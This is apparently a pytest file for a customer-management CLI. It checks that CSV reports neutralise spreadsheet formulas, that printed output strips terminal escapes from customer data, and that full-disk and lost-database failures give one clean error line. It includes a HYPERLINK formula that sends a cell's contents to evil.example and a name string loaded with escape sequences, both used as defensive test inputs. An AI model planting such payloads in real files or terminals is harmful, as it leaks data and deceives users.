"""What the CLI writes for people and spreadsheets stays inert whatever the customer data holds
(formulas, terminal escapes), and a full disk is a one-line error, not a traceback."""

from __future__ import annotations

import csv
import datetime as dt
import os
import re
import subprocess
import sys
from pathlib import Path

from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from guanxi.cli.main import cli
from guanxi.engine.classify import classify
from guanxi.engine.csv_cells import FORMULA_START, as_text
from guanxi.engine.demo_data import write_demo_data
from guanxi.engine.ingest import load_customers
from guanxi.engine.plan.followups import insert_followups
from guanxi.engine.ruleset import RuleSet
from guanxi.engine.store import Store
from guanxi.engine.store.sqlite import SQLiteStore
from tests.daemon_helpers import invitation

RULES = Path(__file__).parent.parent / "rules"
NOW = dt.datetime(2026, 11, 28, 2, 0, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, [*args], env={"COLUMNS": "200"})


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))


# --- formulas in CSV files ----------------------------------------------------------------------


def test_csv_formula_in_rm_id_is_written_as_text(
    store: Store, ruleset: RuleSet, tmp_path: Path
) -> None:
    store.upsert_customers([
        {"customer_id": "C1", "name": "张三", "rm_id": FORMULA, "balance": 100.0},
        {"customer_id": "C2", "name": "@SUM(1+1)", "rm_id": "-2+3", "balance": -12.5},
    ])  # fmt: skip
    classify(store, ruleset, NOW)
    tasks = [
        invitation(c, "E1", NOW, kind="task", channel="rm_task", owner=owner)
        for c, owner in (("C1", FORMULA), ("C2", "-2+3"))
    ]
    insert_followups(store, tasks, "b1", NOW)
    result = run("report", "--rules", str(RULES), "--store", store.location,
                 "--csv", str(tmp_path / "out"))  # fmt: skip
    assert result.exit_code == 0, result.output
    cells = [c for p in (tmp_path / "out").iterdir() for r in csv_rows(p) for c in r]
    assert "'" + FORMULA in cells and "'-2+3" in cells
    assert not [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@given(st.text(max_size=12))
def test_csv_cell_never_starts_a_formula_and_keeps_its_text(cell: str) -> None:
    shown = as_text(cell)
    assert shown in (cell, "'" + cell)
    if shown.startswith(FORMULA_START):
        assert is_number(shown)  # only a plain number such as -12.5 may start with a sign


def test_csv_plain_negative_numbers_stay_numbers() -> None:
    assert [as_text(c) for c in ("-12.5", "-3", "+7", "-1e5", "-", "-x", "=1")] == [
        "-12.5", "-3", "+7", "-1e5", "'-", "'-x", "'=1",
    ]  # fmt: skip


# --- terminal escapes in what the CLI prints ----------------------------------------------------

# A name that would set the window title, clear the screen, recolour, plant a hidden link (as
# rich markup and as OSC 8), move the cursor by a C1 CSI, and turn the line around.
HOSTILE_NAME = (
    "张三\x1b]0;pwned\x07\x1b[2J\x1b[31m红[link=http://evil.example]点[/link]"
    "\x1b]8;;http://evil.example\x1b\\\\x\x9b2J\u202eredro\u2066\r\x08"
)
SGR = re.compile(r"\x1b\[[0-9;]*m")  # the colours and bold the console itself prints
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_explain_prints_no_terminal_escapes_from_customer_data(store: Store) -> None:
    store.upsert_customers([{"customer_id": "C1", "name": HOSTILE_NAME, "rm_id": "[/]"}])
    result = CliRunner().invoke(
        cli,
        ["explain", "C1", "--unmask", "--rules", str(RULES), "--store", store.location],
        env={"COLUMNS": "400", "FORCE_COLOR": "1", "TERM": "xterm-256color"},
    )
    assert result.exit_code == 0, result.output
    assert SGR.search(result.stdout)  # the console did style its output
    assert not STEERS.search(SGR.sub("", result.stdout))
    assert "\\x1b]0;pwned\\x07" in result.stdout and "\\u202eredro" in result.stdout
    assert "[link=http://evil.example]点[/link]" in result.stdout and "[/]" in result.stdout
    missing = run("explain", "X\x1b[2J", "--rules", str(RULES), "--store", store.location)
    assert (missing.exit_code, missing.output) == (1, "Error: no customer 'X\\x1b[2J'\n")


# --- a full disk --------------------------------------------------------------------------------

STORE_FULL = (
    "Error: the disk is full (磁盘已满): free some space and run the command again. The store's"
    " unfinished write was rolled back, so nothing was half-written\n"
)
# Runs in a mount namespace of its own, with a 1 MiB tmpfs at $DISK: copies the store there,
# fills the disk but for a little room, and classifies.
ON_A_TINY_DISK = """
set -u
mount -t tmpfs -o size=2m tmpfs "$DISK" && cp "$OUT/guanxi.db" "$DISK/" || exit 97
free=$(df --output=avail -B1 "$DISK" | tail -n 1)
head -c $((free - 96 * 1024)) /dev/zero > "$DISK/filler"  # room to open the store, no more
"$PYTHON" -m guanxi.cli classify --rules "$RULES" --store "$DISK/guanxi.db" \\
  >"$OUT/full.out" 2>"$OUT/full.err"
echo $? > "$OUT/full.code"
mkdir "$OUT/after" && cp "$DISK"/guanxi.db* "$OUT/after/"
"""


def test_disk_full_is_one_clear_line_not_a_traceback(tmp_path: Path, ruleset: RuleSet) -> None:
    write_demo_data(tmp_path, 400, 1, dt.date(2026, 11, 28), bad_rows=False)
    store = SQLiteStore(tmp_path / "guanxi.db")
    load_customers(store, ruleset, tmp_path / "customers.csv", NOW)
    store.close()
    (tmp_path / "disk").mkdir()
    env = {**os.environ, "DISK": str(tmp_path / "disk"), "OUT": str(tmp_path),
           "RULES": str(RULES), "PYTHON": sys.executable}  # fmt: skip
    done = subprocess.run(["unshare", "-rm", "sh", "-c", ON_A_TINY_DISK], env=env, timeout=60)
    assert done.returncode == 0, done.returncode
    assert (tmp_path / "full.code").read_text() == "1\n"
    assert (tmp_path / "full.err").read_text(encoding="utf-8") == STORE_FULL
    after = SQLiteStore(tmp_path / "after" / "guanxi.db")  # the failed run left nothing behind
    try:
        assert after.execute("PRAGMA integrity_check") == [{"integrity_check": "ok"}]
        assert after.execute("SELECT count(*) AS n FROM current_assignments") == [{"n": 0}]
        assert classify(after, ruleset, NOW).customers == 400
    finally:
        after.close()


def test_disk_full_writing_a_csv_names_the_file(
    store: Store, ruleset: RuleSet, tmp_path: Path
) -> None:
    store.upsert_customers([{"customer_id": "C1", "name": "张三", "balance": 100.0}])
    classify(store, ruleset, NOW)
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "distribution.csv").symlink_to("/dev/full")  # a device that is always full
    result = run("report", "--rules", str(RULES), "--store", store.location, "--csv", str(folder))
    assert (result.exit_code, result.output) == (
        1,
        f"Error: the disk is full (磁盘已满) writing '{folder / 'distribution.csv'}': free some"
        " space and run the command again; that file is incomplete\n",
    )


# The tick's own connection: other processes, and other test sessions running this test at the
# same time, may share the database; the name carries this process's id.
TICK_NAME = f"gx-test-lost-store-{os.getpid()}"
STORE_WAITS = (
    "SELECT pid FROM pg_stat_activity WHERE application_name = %s AND wait_event_type = 'Lock'"
)


def test_a_store_lost_in_the_middle_of_a_tick_is_one_clear_line_not_a_traceback(
    postgres_url: str, ruleset: RuleSet, tmp_path: Path
) -> None:
    """`run --once` waits on a lock; the server ends its connection (a restart, a DBA)."""
    import psycopg

    from guanxi.engine.store.postgresql import PostgresStore
    from tests.daemon_helpers import wait_for

    store = PostgresStore(postgres_url)
    store.prepare(ruleset.schema)
    store.close()
    command = [sys.executable, "-m", "guanxi.cli", "run", "--once", "--rules", str(RULES)]
    command += ["--store", postgres_url, "--outbox", str(tmp_path / "outbox.jsonl")]
    with psycopg.connect(postgres_url) as admin:
        admin.execute("LOCK TABLE events IN ACCESS EXCLUSIVE MODE")  # held until rolled back
        tick = subprocess.Popen(
            command,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env={**os.environ, "PGAPPNAME": TICK_NAME},  # libpq names the session
        )
        waiting: list[int] = []
        with psycopg.connect(postgres_url, autocommit=True) as watcher:

            def blocked() -> bool:
                waiting[:] = [r[0] for r in watcher.execute(STORE_WAITS, (TICK_NAME,)).fetchall()]
                return bool(waiting)

            wait_for(blocked, 30, "the tick to wait for the lock")
            watcher.execute("SELECT pg_terminate_backend(%s)", (waiting[0],))
        admin.rollback()
    _, err = tick.communicate(timeout=30)
    message = err.decode("utf-8")
    assert tick.returncode == 1, message
    assert message.startswith("Error: the store could not be used (数据库暂不可用): "), message
    assert "Traceback" not in message and message.count("\n") == 1
